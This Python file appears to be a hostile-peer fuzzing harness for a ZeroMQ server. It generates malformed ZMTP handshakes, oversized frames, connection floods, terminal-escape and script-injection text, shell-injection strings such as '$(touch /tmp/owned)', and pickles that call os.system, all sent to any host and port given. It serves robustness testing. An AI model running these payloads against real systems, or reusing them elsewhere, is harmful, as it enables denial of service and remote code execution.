"""What a hostile peer says: the attacks, as the bytes of each connection it makes.

As a script it attacks an address: python hostile.py HOST PORT SOCKET-TYPE MANY [ATTACK ...]
"""

import contextlib
import pickletools
import random
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

TYPES = "PAIR PUB SUB REQ REP DEALER ROUTER PULL PUSH XPUB XSUB STREAM NONE".split()
# What obeys these: terminals (title, clear, colour, alarm), pages, shells, and what splits lines.
TEXT = (
    b"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\r\n<script>alert(1)</script><img src=x>&\"'"
    b"\xff\xfe\xc0\x80\xed\xa0\x80\x00 \xe2\x80\xae\xe2\x80\xa8$(touch /tmp/owned)`id`"
)
LARGEST = {"REQ": 16384, "SUB": 1023, "PULL": 1023}  # bytes of a frame that the server takes


def frame(body: bytes, flags: int = 0) -> bytes:
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 2]) + len(body).to_bytes(8) + body


def greeting(mechanism: bytes = b"NULL", minor: int = 1) -> bytes:
    return (
        b"\xff" + bytes(8) + b"\x7f\x03" + bytes([minor]) + mechanism.ljust(20, b"\0") + bytes(32)
    )


def command(name: bytes, body: bytes) -> bytes:
    return frame(bytes([len(name)]) + name + body, 4)


def handshake(socket_type: str) -> bytes:
    value = socket_type.encode()
    return greeting() + command(b"READY", b"\x0bSocket-Type" + len(value).to_bytes(4) + value)


def pickles() -> Iterator[bytes]:
    """Yield a pickle for each opcode, and some that would execute, allocate or nest."""
    for opcode in pickletools.opcodes:
        for argument in b"", b"\xff" * 8, b"\xff\xff\xff\x7f", b"os\nsystem\n", b"9" * 5000 + b"\n":
            yield opcode.code.encode("latin-1") + argument + b"."
            yield b"\x80\x04K\x00" + opcode.code.encode("latin-1") + argument + b"."
    for call in b"touch /tmp/owned", b"echo owned":
        yield b"cos\nsystem\n(S'" + call + b"'\ntR."
        yield b"(S'" + call + b"'\nios\nsystem\n."
        yield b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(call)]) + call + b"\x85R."
    yield b"(" * 60000 + b"."
    yield b"]" * 30000 + b"a" * 29999 + b"."
    yield b"]" + b"2" * 60000 + b"e" * 100 + b"."  # DUP: a list that holds itself
    yield b"\x80\x04\x96" + b"\xff" * 7 + b"\x7f."  # a bytearray of 2**63 bytes
    yield b"Nr\xff\xff\xff\x7f."  # a memo of 2**31 places


def attacks(us: str, many: int = 10_000) -> dict[str, Callable[[], list[bytes]]]:
    """Return each attack by a peer that says it is such a socket: the bytes of each connection.

    They are made when the attack is called. `many` is how many frames come where many do: ten
    times what a queue of ZeroMQ holds.
    """
    some = random.Random(5).randbytes
    hello = handshake(us)
    start = b"\1\0" if us in ("REQ", "REP") else b"\1" if us == "SUB" else b""  # of a message

    def message(body: bytes) -> bytes:
        return frame(start + body) if us == "SUB" else start + frame(body)

    topic = b"WAKTU " if us == "PUB" else b""
    limit = LARGEST.get(us, 65536)  # clients take more than servers
    largest = limit - len(topic)
    return {
        "random bytes": lambda: [some(size) for size in (1, 9, 10, 11, 63, 64, 65, 100_000)],
        "greeting, random bytes": lambda: [greeting() + some(100_000) for _ in range(5)],
        "handshake, random bytes": lambda: [hello + some(100_000) for _ in range(5)],
        "half a greeting": lambda: [greeting()[:size] for size in range(1, 64, 7)],
        "ZMTP 1.0": lambda: [b"\1\0" + b"\7\0WAKTU " * 100, b"\1\0" + b"\xff" * 9 + some(1000)],
        "ZMTP 2.0": lambda: [
            b"\xff" + bytes(7) + b"\1\x7f\1" + bytes([kind]) + b"\0\0" + message(b"WAKTU x") * 100
            for kind in range(len(TYPES))
        ],
        "ZMTP 9.9": lambda: [b"\xff" + bytes(8) + b"\x7f\x09\x09" + greeting()[12:] + hello[64:]],
        "frames of 2**63 bytes": lambda: [
            hello + bytes([flags]) + size.to_bytes(8) + some(1000)
            for flags in (2, 3, 6)
            for size in (2**31, 2**63 - 1, 2**63, 2**64 - 1)
        ],
        "frames over the limit": lambda: [hello + message(bytes(limit + 2))],
        "many tiny messages": lambda: [hello + message(b"") * many],
        "a message of many frames": lambda: [hello + b"\1\0" * many + b"\0\0"],
        "a message without end": lambda: [
            hello + frame(bytes(largest), 1) * (20_000_000 // largest)
        ],
        "500 silent connections": lambda: [b""] * 500,
        "500 idle peers": lambda: [hello] * 500,
        "wrong socket types": lambda: [handshake(kind) + message(b"x") for kind in TYPES],
        "PLAIN": lambda: [
            greeting(b"PLAIN") + command(b"HELLO", b"\5admin\6secret") + message(b"x")
        ],
        "CURVE": lambda: [
            greeting(b"CURVE") + command(b"HELLO", b"\1\0" + some(192)) + message(b"x")
        ],
        "no such mechanism": lambda: [greeting(TEXT[:20]) + hello[64:]],
        "commands": lambda: [
            hello + command(b"PING", some(20)) + command(b"PONG", some(20)) + command(TEXT, TEXT),
            hello + command(b"SUBSCRIBE", TEXT) + command(b"CANCEL", TEXT),
            hello + command(b"READY", some(200)) + command(b"ERROR", b"\xff" + TEXT),
            greeting() + command(b"ERROR", bytes([len(TEXT)]) + TEXT),
            greeting() + command(b"READY", (b"\x40" + TEXT[:64] + b"\0\0\0\x7f") + TEXT),
        ],
        "text": lambda: [
            hello + b"".join(message(topic + body) for body in (b"", TEXT, TEXT * 10, b"\0"))
        ],
        "largest text": lambda: [hello + message((topic + TEXT * limit)[:largest]) * 5],
        "pickles": lambda: [hello + b"".join(message(body) for body in pickles())],
        "many large messages, nothing read": lambda: [hello + message(some(largest)) * 1500] * 3,
    } | (
        {"many long topics": lambda: [hello + b"".join(message(some(1000)) for _ in range(20_000))]}
        if us == "SUB"
        else {}
    )


def say(connection: socket.socket, hello: bytes, said: bytes, reads: bool) -> None:
    """Send it all, and read what comes back, or the kernel would drop what it has not passed on.

    A handshake waits for its answer. Ends when the other side hangs up, after a second in which
    nothing passed, or after 3 s: an attacker has other things to do.
    """
    rest = memoryview(said)
    with contextlib.suppress(OSError):  # it has hung up
        if said.startswith(hello):
            connection.settimeout(180)
            connection.sendall(hello)
            rest = rest[len(hello) :]
            heard = b""
            while len(heard) < 64 or b"READY" not in heard:
                if not (more := connection.recv(1 << 16)):
                    return
                heard += more
        connection.setblocking(False)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            given = [connection] if rest else []
            readable, writable, _ = select.select([connection] * reads, given, [], 0.5 + reads / 2)
            if readable and not connection.recv(1 << 20):
                break
            if writable:
                rest = rest[connection.send(rest[: 1 << 20]) :]
            if not readable and not writable:
                break
            if not rest and reads:
                connection.shutdown(socket.SHUT_WR)


def attack(address: tuple[str, int], name: str, us: str, many: int = 10_000) -> None:
    """Make the connections of an attack, one beside the other, say it all, and go."""
    connections = attacks(us, many)[name]()
    with contextlib.ExitStack() as stack:
        opened = [stack.enter_context(socket.create_connection(address)) for _ in connections]
        threads = [
            threading.Thread(
                target=say, args=[connection, handshake(us), said, "nothing read" not in name]
            )
            for connection, said in zip(opened, connections, strict=True)
            if said
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def serve(listener: socket.socket, name: str, us: str) -> None:
    """Say each connection's part of an attack to whoever connects, and close.

    Ends when no one comes again: REQ makes another socket after 2.5 s, the others connect again
    after a tenth of a second, or never.
    """
    with listener:
        listener.settimeout(180)
        for said in attacks(us)[name]()[:20]:
            try:
                with listener.accept()[0] as connection:
                    say(connection, handshake(us), said, "nothing read" not in name)
            except TimeoutError:
                return
            listener.settimeout(4 if us == "REP" else 1)


if __name__ == "__main__":
    host, port, us, many, *names = sys.argv[1:]
    for name in names or attacks(us):
        attack((host, int(port)), name, us, int(many))
        print(name, flush=True)
